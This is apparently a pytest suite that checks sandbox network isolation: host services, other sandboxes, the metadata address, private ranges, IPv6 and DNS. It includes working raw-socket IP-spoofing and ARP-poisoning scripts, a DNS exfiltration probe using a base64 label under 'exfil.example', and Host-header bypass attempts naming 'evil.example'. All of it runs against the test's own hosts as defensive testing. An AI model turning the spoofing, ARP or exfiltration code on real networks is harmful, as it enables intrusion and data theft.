"""Network probes run inside sandboxes, each asserting the specific failure: the host and its
services, other sandboxes, the cloud metadata address, private ranges, forged source
addresses, IPv6 and raw sockets, and DNS as a way out.

Every target is on this machine: the host itself, other sandboxes, or a host of the test's
own in a network namespace it routes itself (helpers.TestHost checks the route before
anything is sent there)."""

import socket
import threading

import pytest

from e2b import CommandExitException, Sandbox

from conftest import own_daemon
from helpers import TestHost, wait_for


def run(sbx, cmd, user=None, timeout=60):
    try:
        return sbx.commands.run(cmd, user=user, timeout=timeout)
    except CommandExitException as e:
        return e


BANNER = b"sbx-test-host-service\n"


def banner_probe(sbx, addr, port):
    """Connects from inside the sandbox and prints what the service sends first: a connection
    that a proxy accepts (the egress proxy takes every TCP connection of a sandbox that
    tunnels through one) and then resets gives "", not the Listener's BANNER."""
    code = (
        "import socket\n"
        "s = socket.socket()\n"
        "s.settimeout(3)\n"
        "try:\n"
        f"    s.connect(({addr!r}, {port})); print(s.recv(64).decode(errors='replace'))\n"
        "except OSError as e:\n"
        "    print(e)\n"
    )
    sbx.files.write("/tmp/banner.py", code)
    return run(sbx, "python3 /tmp/banner.py").stdout


def tcp_probe(sbx, addr, port):
    """Connects from inside the sandbox; returns "connected" or the errno name."""
    code = (
        "import errno, socket, sys\n"
        f"s = socket.socket(socket.AF_INET6 if ':' in {addr!r} else socket.AF_INET)\n"
        "s.settimeout(3)\n"
        "try:\n"
        f"    s.connect(({addr!r}, {port})); print('connected')\n"
        "except OSError as e:\n"
        "    print(errno.errorcode.get(e.errno, str(e)))\n"
    )
    sbx.files.write("/tmp/probe.py", code)
    return run(sbx, "python3 /tmp/probe.py").stdout.strip()


@pytest.fixture(scope="module")
def pair(sbx_daemon):
    """Two sandboxes of default rules: the prober and its neighbour."""
    both = [Sandbox.create(timeout=600) for _ in range(2)]
    yield both
    for s in both:
        Sandbox.kill(s.sandbox_id)


@pytest.fixture
def sbx(pair):
    return pair[0]


@pytest.fixture
def other(pair):
    return pair[1]


def own_address(sbx):
    return run(sbx, "ip -4 -o addr show dev eth0").stdout.split()[3].split("/")[0]


class Listener:
    """A TCP service of the test on the host's 0.0.0.0, counting connections; it greets each
    with BANNER, so that a client can tell it reached this service and not a proxy."""

    def __init__(self):
        self.s = socket.socket()
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.s.bind(("0.0.0.0", 0))
        self.s.listen(16)
        self.port = self.s.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self._loop, daemon=True).start()

    def _loop(self):
        while True:
            try:
                c, _ = self.s.accept()
            except OSError:
                return
            self.accepted += 1
            try:
                c.sendall(BANNER)
            except OSError:
                pass
            c.close()


def host_addresses():
    out = run_host(["ip", "-4", "-o", "addr"])
    return [line.split()[3].split("/")[0] for line in out.splitlines()]


def run_host(argv):
    import subprocess
    return subprocess.run(argv, capture_output=True, text=True, check=True).stdout


def test_host_services_are_unreachable(sbx, sbx_daemon):
    """A service on the host's 0.0.0.0, and the daemon's own port: refused on every address
    of the host, the gateway included; the service never sees a connection."""
    srv = Listener()
    gateway = sbx_daemon.network()["gateway"]
    targets = [gateway] + [a for a in host_addresses() if not a.startswith("127.")]
    for addr in targets:
        for port in (srv.port, sbx_daemon.port, 22):
            assert tcp_probe(sbx, addr, port) == "ECONNREFUSED", (addr, port)
    assert srv.accepted == 0
    # From the host it is there (the probe would have seen it).
    with socket.create_connection(("127.0.0.1", srv.port), timeout=3):
        pass
    assert wait_for(lambda: srv.accepted == 1, 5)


def test_other_sandboxes_are_unreachable(sbx, other):
    run(other, "python3 -m http.server 8000 --bind 0.0.0.0 >/dev/null 2>&1 &")
    addr = own_address(other)
    assert wait_for(lambda: tcp_probe(other, addr, 8000) == "connected", 10)
    assert tcp_probe(sbx, addr, 8000) == "ECONNREFUSED"


# A daemon of its own: its start, and removing its state dir, take a while on a busy machine.
@pytest.mark.timeout(180)
def test_metadata_and_private_ranges_are_blocked(sbx, sbx_daemon, tmp_path):
    """Test hosts at the cloud metadata address and in a private range, each routed to a
    namespace of the test: the host reaches them, sandboxes do not, unless the operator opens
    the private range (--allow-private); the metadata address never opens."""
    with TestHost("meta", "10.123.45.2", "10.123.45.1", extra=["169.254.169.254"]) as h:
        h.serve(80)
        for addr in ("169.254.169.254", "10.123.45.2"):
            assert tcp_probe(sbx, addr, 80) == "ECONNREFUSED", addr
        assert h.seen() == []
        with socket.create_connection(("169.254.169.254", 80), timeout=3):
            pass  # the host reaches it: the sandbox's refusal is the rule's
        with own_daemon(sbx_daemon, tmp_path, "--pool base=0 --pool code-interpreter-v1=0 "
                                              "--allow-private 10.123.45.0/24") as d:
            s = Sandbox.create(timeout=120, api_key=d.api_key, api_url=d.url, sandbox_url=d.url)
            assert tcp_probe(s, "10.123.45.2", 80) == "connected"
            assert tcp_probe(s, "169.254.169.254", 80) == "ECONNREFUSED"
            s.kill()


SPOOF = r"""
import socket, struct, sys
dst, src, payload = sys.argv[1], sys.argv[2], sys.argv[3].encode()
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
udp = struct.pack("!HHHH", 40000, 9999, 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 socket.inet_aton(src), socket.inet_aton(dst))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.sendto(ip + udp, (dst, 0))
print("sent")
"""


def test_forged_source_addresses_are_dropped(sbx, other):
    """Sandbox root builds raw IP packets: one with its own source address reaches the test
    host (the control), ones claiming another sandbox's or an arbitrary address do not."""
    with TestHost("spoof", "198.51.100.130", "198.51.100.129", prefix=26) as h:
        h.serve(9999)
        sbx.files.write("/tmp/spoof.py", SPOOF)
        for src, payload in ((own_address(sbx), "genuine"), (own_address(other), "as-other"),
                             ("198.51.100.77", "as-anyone")):
            r = run(sbx, f"python3 /tmp/spoof.py 198.51.100.130 {src} {payload}", user="root")
            assert r.stdout.strip() == "sent", r.stderr
        assert wait_for(lambda: any("genuine" in line for line in h.seen()), 5), h.seen()
        assert not any("as-" in line for line in h.seen()), h.seen()


ARP = r"""
import socket, struct, sys
claims, target = sys.argv[1:-1], socket.inet_aton(sys.argv[-1])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
mac = s.getsockname()[4]
for ip in claims:  # "ip is at my MAC", unasked, a few times
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, socket.inet_aton(ip),
                      b"\xff" * 6, target)
    for _ in range(3):
        s.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)
print("sent")
"""


def neighbours(addr):
    """The host's neighbour entries for addr: [(device, state)]."""
    import json
    return sorted((n["dev"], tuple(n.get("state", []))) for n in
                  json.loads(run_host(["ip", "-j", "-4", "neigh", "show", "to", addr])))


def test_no_address_or_neighbour_tricks(sbx, other, sbx_daemon):
    """Sandbox root cannot take another address (no CAP_NET_ADMIN in its namespace), and ARP
    answers claiming the neighbour's address or the gateway change nothing on the host: each
    sandbox has a routed link of its own with permanent neighbour entries, so the neighbour
    still reaches a test host and the host's entry for it stays on its own link."""
    gateway = sbx_daemon.network()["gateway"]
    victim = own_address(other)
    r = run(sbx, f"ip addr add {victim}/32 dev eth0", user="root")
    assert r.exit_code != 0 and "Operation not permitted" in r.stderr, r.stderr
    before = neighbours(victim)
    assert len(before) == 1 and "PERMANENT" in before[0][1], before
    with TestHost("arp", "198.51.100.130", "198.51.100.129", prefix=26) as h:
        h.serve(8080)
        sbx.files.write("/tmp/arp.py", ARP)
        r = run(sbx, f"python3 /tmp/arp.py {victim} {gateway} {gateway}", user="root")
        assert r.stdout.strip() == "sent", r.stderr
        assert neighbours(victim) == before
        r = run(other, f"curl -sS --max-time 5 http://{h.addr}:8080/")
        assert r.exit_code == 0 and "test host" in r.stdout, r.stderr


def test_raw_sockets_and_ipv6_do_not_bypass_the_rules(sbx_daemon):
    """A sandbox denied everything: raw packets go nowhere either, and IPv6 has no route."""
    with TestHost("raw", "198.51.100.130", "198.51.100.129", prefix=26) as h:
        h.serve(9999)
        s = Sandbox.create(timeout=120, allow_internet_access=False)
        try:
            s.files.write("/tmp/spoof.py", SPOOF)
            me = own_address(s)
            assert run(s, f"python3 /tmp/spoof.py 198.51.100.130 {me} raw", user="root").stdout
            assert tcp_probe(s, "198.51.100.130", 9999) == "ECONNREFUSED"
            assert tcp_probe(s, "2001:db8::1", 80) == "ENETUNREACH"
            assert h.seen() == []
        finally:
            s.kill()


DNS_QUERY = r"""
import random, socket, struct, sys
name = sys.argv[1]
q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, (sys.argv[2], 53))
print(s.recv(4096)[3] & 0xf)
"""


def test_dns_is_no_way_out_for_a_denied_sandbox(sbx_daemon):
    """A sandbox denied everything gets REFUSED for any name: a query for
    <data>.attacker.example would carry data out without a connection."""
    gateway = sbx_daemon.network()["gateway"]
    s = Sandbox.create(timeout=120, allow_internet_access=False)
    try:
        s.files.write("/tmp/q.py", DNS_QUERY)
        for name in ("pypi.org", "c2VjcmV0.exfil.example"):
            assert run(s, f"python3 /tmp/q.py {name} {gateway}").stdout.strip() == "5"
    finally:
        s.kill()


@pytest.mark.internet
def test_host_name_rules_cannot_be_bypassed(sbx_daemon):
    """allowOut names pypi.org only. A borrowed name (SNI or Host pypi.org) sent to another
    address reaches pypi.org itself, never that address: the proxy resolves the name on the
    host; other names, no name, raw sockets, IPv6 and DNS for other names lead nowhere."""
    gateway = sbx_daemon.network()["gateway"]
    with TestHost("byp", "198.51.100.130", "198.51.100.129", prefix=26) as h:
        h.serve(80)
        h.serve(443)
        s = Sandbox.create(timeout=120, network={"deny_out": ["0.0.0.0/0"],
                                                 "allow_out": ["pypi.org"]})
        try:
            # /etc/hosts-style redirection: the TLS session still goes to pypi.org.
            r = run(s, "curl -sS -o /dev/null -w '%{http_code}' --max-time 20 "
                       "--resolve pypi.org:443:198.51.100.130 https://pypi.org/simple/six/")
            assert r.stdout == "200", r.stderr
            r = run(s, "curl -sS -o /dev/null -w '%{http_code}' --max-time 20 "
                       "-H 'Host: pypi.org' http://198.51.100.130/simple/six/")
            assert r.exit_code == 0, r.stderr
            # No name, another name, another port, a raw packet, IPv6: nothing gets there.
            for cmd in ("curl -sk --max-time 5 https://198.51.100.130/",
                        "curl -s --max-time 5 -H 'Host: evil.example' http://198.51.100.130/",
                        "curl -s --max-time 5 http://198.51.100.130:8080/"):
                assert run(s, cmd).exit_code != 0, cmd
            s.files.write("/tmp/spoof.py", SPOOF)
            run(s, f"python3 /tmp/spoof.py 198.51.100.130 {own_address(s)} raw", user="root")
            assert tcp_probe(s, "2001:db8::1", 443) == "ENETUNREACH"
            s.files.write("/tmp/q.py", DNS_QUERY)
            assert run(s, f"python3 /tmp/q.py exfil.example {gateway}").stdout.strip() == "5"
            assert run(s, f"python3 /tmp/q.py pypi.org {gateway}").stdout.strip() == "0"
            assert h.seen() == []
        finally:
            s.kill()


def test_the_egress_proxy_never_reaches_the_host(sbx_daemon):
    """Connections through the daemon's egress proxy start on the host, where the sandbox
    network's filtering does not apply: the proxy refuses the host's own addresses itself,
    for a name allowed by "*" as for an address sent through a SOCKS5 proxy."""
    import subprocess
    srv = Listener()
    host = [a for a in host_addresses() if not a.startswith("127.")][0]
    with TestHost("hsocks", "198.51.100.130", "198.51.100.129", prefix=26) as h:
        h.procs.append(subprocess.Popen(["ip", "netns", "exec", h.ns, "microsocks", "-i", h.addr,
                                         "-p", "1080"], stdout=subprocess.DEVNULL))
        for network in ({"egress_proxy": {"address": f"{h.addr}:1080"}},
                        {"deny_out": ["0.0.0.0/0"], "allow_out": ["*"]}):
            s = Sandbox.create(timeout=120, network=network)
            try:
                # A proxied sandbox's connect() may complete (with the proxy) before the
                # proxy resets it: what counts is that the host's service never answers.
                assert BANNER.decode().strip() not in banner_probe(s, host, srv.port)
                r = run(s, f"curl -s --max-time 5 -H 'Host: {host}' http://{host}:80/")
                assert r.exit_code != 0
            finally:
                s.kill()
    assert srv.accepted == 0
